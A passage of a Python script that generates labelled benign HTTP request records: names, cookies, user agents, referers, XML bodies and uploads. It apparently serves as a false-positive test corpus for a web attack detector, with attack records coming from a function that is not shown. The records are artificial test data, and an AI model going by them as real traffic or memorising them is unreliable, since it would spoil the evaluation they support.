    ("Åsa Öberg", "Storgatan 1, Malmö"), ("Łukasz Żółw", "ul. Długa 8, Gdańsk"),
    ("François L'Écuyer", "3 rue du Href, Lyon"), ("Nguyễn Văn An", "12 Lê Lợi, Huế"),
    ("Renée <Rena> Park", "Unit 4, 300 Font Rd, Seoul"),
]

COOKIES = [
    "theme=dark; lang=en-GB", "recent=script%20writer%2Conload", "tz=Europe%2FBerlin; consent=analytics",
    "prefs=%7B%22style%22%3A%22compact%22%7D", "last_search=meta%20tags", "cart=3; currency=EUR",
    "sidebar=collapsed; font=large", "layout=table", "tour=done; onboarding=step-4", "ab=variant-b",
]

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Mobile Safari/537.36",
    "curl/8.5.0", "python-requests/2.31.0", "okhttp/4.12.0", "Go-http-client/2.0", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "PostmanRuntime/7.37.0",
]

REFERERS = [
    "https://app.example.com/admin/users?page=2", "https://www.google.com/", "https://app.example.com/me/settings",
    "https://www.bing.com/search?q=script+writer", "https://duckduckgo.com/", "https://app.example.com/api/docs#users",
]

XML_DOCS = [
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name>Ruby Script</name><bio>I write scripts for theatre"
    "</bio></user>",
    "<?xml version=\"1.0\"?><user><name>Ana</name><note>the style guide and the meta review</note></user>",
    "<?xml version=\"1.0\"?><user><name>Lars</name><location>Aarhus</location><title>Session chair</title></user>",
    "<?xml version=\"1.0\"?><user><name>Priya</name><bio>Constructor of prototypes, data scheme nerd</bio></user>",
    "<?xml version=\"1.0\"?><user><name>Kai</name><bio>&lt;b&gt;hello&lt;/b&gt; and welcome</bio></user>",
]

UPLOADS = ["avatar.jpg", "report.pdf", "php-cheatsheet.pdf", "script-draft.docx", "style.css.txt", "photo.png",
           "Résumé 2024.pdf", "notes on php.txt", "object-storage-costs.xlsx", "session-slides.pptx"]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)

    def rec(r: dict[str, Any], kind: str, placement: str) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**r, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for s in SEARCHES:
        yield rec(_get(_query("/api/users", [("q", s), ("page", "1")])), "search", "query")
        yield rec(_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]), "adminsearch", "form")
    for text in PROSE:
        yield rec(_json("/api/users/42", {"comment": text}), "comment", "json")
        yield rec(_json("/me/profile", {"status": text}), "status", "json")
    for text in SLACK_TEXTS:
        yield rec(_json("/api/users/42", {"comment": text}), "comment", "json")
    for name, address in NAMES:
        yield rec(_json("/api/users", {"name": name, "address": address, "email": "someone@example.org"}),
                  "name", "json")
        yield rec(_get(_query("/api/users", [("name", name)])), "name", "query")
    for c in COOKIES:
        yield rec({**_get("/api/users?page=1"), "headers": _headers({"Cookie": "session=abc123; " + c})},
                  "cookie", "cookie")
    for ua in USER_AGENTS:
        yield rec({**_get("/api/users?page=1"), "headers": {"User-Agent": ua, "Accept": "application/json"}},
                  "ua", "header:User-Agent")
    for ref in REFERERS:
        yield rec({**_get("/api/users?page=1"), "headers": _headers({"Referer": ref})}, "referer", "header:Referer")
    for doc in XML_DOCS:
        yield rec({"method": "POST", "uri": "/api/users", "body": doc,
                   "headers": _headers({"Content-Type": "application/xml"})}, "xml", "xml")
    for fname in UPLOADS:
        body, headers = multipart([("caption", "my " + fname.rsplit(".", 1)[0])], fname, "%PDF-1.7 sample")
        yield rec({"method": "POST", "uri": "/api/users/42/avatar", "body": body, "headers": headers},
                  "upload", "multipart")


if __name__ == "__main__":
    for record in [*attacks(), *benign()]:
        print(json.dumps(record, ensure_ascii=False))
